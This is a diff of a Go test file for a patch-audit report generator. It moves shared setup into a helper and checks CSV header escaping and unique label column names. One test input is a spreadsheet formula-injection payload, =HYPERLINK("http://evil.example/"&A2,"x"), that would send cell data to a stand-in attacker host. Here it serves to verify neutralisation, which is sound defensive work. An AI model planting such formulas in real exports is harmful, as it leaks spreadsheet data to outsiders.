@@ -397,39 +397,9 @@ func TestCSVErrorCodeNamesCapped(t *testing.T) {
 // header as they are in instances.csv: a spreadsheet must not run a label
 // key as a formula.
 func TestChangesCSVHeaderNeutralised(t *testing.T) {
-	at := time.Date(2026, 11, 30, 3, 0, 0, 0, time.UTC)
 	labels := map[string]string{`=HYPERLINK("http://evil.example/"&A2,"x")`: "a", "-2+3": "b", "@SUM(1)": "c", "owner": "-1"}
-	result := func(status string, when time.Time) audit.Result {
-		d := when.Add(-time.Hour)
-		return audit.Result{
-			Region: east, InstanceID: "i-0000000000000000a", Labels: labels, Outcome: audit.Judge([]audit.Association{{Status: status}}),
-			AuditedAt: when, Associations: []audit.Association{{AssociationID: "a-1", Name: "AWS-RunPatchBaseline", Status: status, ExecutionDate: &d}},
-		}
-	}
-	basePath := filepath.Join(t.TempDir(), audit.ResultsFile)
-	w, err := audit.CreateRecord(basePath)
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := w.Write(result(audit.StatusSuccess, at.Add(-24*time.Hour))); err != nil {
-		t.Fatal(err)
-	}
-	if err := w.Close(); err != nil {
-		t.Fatal(err)
-	}
-	base, err := audit.OpenBaseline(basePath)
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer base.Close()
-	opts := report.Options{
-		Dir: t.TempDir(), Records: openRecord(t, []audit.Result{result(audit.StatusFailed, at)}), Baseline: base,
-		Run: audit.RunInfo{StartedAt: at, Complete: true}, Formats: []report.Format{report.FormatCSV}, StaleAfter: audit.DefaultStaleAfter,
-	}
-	if _, err := report.Render(context.Background(), opts); err != nil {
-		t.Fatal(err)
-	}
-	recs := readCSV(t, filepath.Join(opts.Dir, report.ChangesCSV))
+	dir := renderChangesOf(t, labels)
+	recs := readCSV(t, filepath.Join(dir, report.ChangesCSV))
 	fixed := 11 // the columns before the labels
 	got := recs[0][fixed:]
 	want := []string{`'-2+3`, `'=HYPERLINK("http://evil.example/"&A2,"x")`, `'@SUM(1)`, "owner"}
@@ -437,7 +407,7 @@ func TestChangesCSVHeaderNeutralised(t *testing.T) {
 		t.Errorf("changes.csv label columns %q, want %q", got, want)
 	}
 	// The same keys, as instances.csv names them.
-	inst := readCSV(t, filepath.Join(opts.Dir, report.InstancesCSV))[0][17:]
+	inst := readCSV(t, filepath.Join(dir, report.InstancesCSV))[0][17:]
 	if !slices.Equal(inst, want) {
 		t.Errorf("instances.csv label columns %q, want %q, as in changes.csv", inst, want)
 	}
@@ -450,8 +420,33 @@ func TestChangesCSVHeaderNeutralised(t *testing.T) {
 // or changes.csv (document, change, outcome) gets a column of its own,
 // named alike in both files, instead of a second column of that name.
 func TestLabelColumnsNeverClash(t *testing.T) {
+	dir := renderChangesOf(t, map[string]string{"document": "d", "change": "c", "outcome": "o", "team": "t"})
+	var labelCols [][]string
+	for _, f := range []struct {
+		name  string
+		fixed int
+	}{{report.ChangesCSV, 11}, {report.InstancesCSV, 17}} {
+		header := readCSV(t, filepath.Join(dir, f.name))[0]
+		seen := map[string]bool{}
+		for _, h := range header {
+			if seen[h] {
+				t.Errorf("%s has two columns named %q: %q", f.name, h, header)
+			}
+			seen[h] = true
+		}
+		labelCols = append(labelCols, header[f.fixed:])
+	}
+	if !slices.Equal(labelCols[0], labelCols[1]) {
+		t.Errorf("label columns differ: changes.csv %q, instances.csv %q", labelCols[0], labelCols[1])
+	}
+}
+
+// renderChangesOf renders the CSVs of one instance with labels whose
+// association failed since a baseline where it succeeded, and returns
+// their directory.
+func renderChangesOf(t *testing.T, labels map[string]string) string {
+	t.Helper()
 	at := time.Date(2026, 11, 30, 3, 0, 0, 0, time.UTC)
-	labels := map[string]string{"document": "d", "change": "c", "outcome": "o", "team": "t"}
 	result := func(status string, when time.Time) audit.Result {
 		d := when.Add(-time.Hour)
 		return audit.Result{
@@ -482,22 +477,5 @@ func TestLabelColumnsNeverClash(t *testing.T) {
 	if _, err := report.Render(context.Background(), opts); err != nil {
 		t.Fatal(err)
 	}
-	var labelCols [][]string
-	for _, f := range []struct {
-		name  string
-		fixed int
-	}{{report.ChangesCSV, 11}, {report.InstancesCSV, 17}} {
-		header := readCSV(t, filepath.Join(opts.Dir, f.name))[0]
-		seen := map[string]bool{}
-		for _, h := range header {
-			if seen[h] {
-				t.Errorf("%s has two columns named %q: %q", f.name, h, header)
-			}
-			seen[h] = true
-		}
-		labelCols = append(labelCols, header[f.fixed:])
-	}
-	if !slices.Equal(labelCols[0], labelCols[1]) {
-		t.Errorf("label columns differ: changes.csv %q, instances.csv %q", labelCols[0], labelCols[1])
-	}
+	return opts.Dir
 }
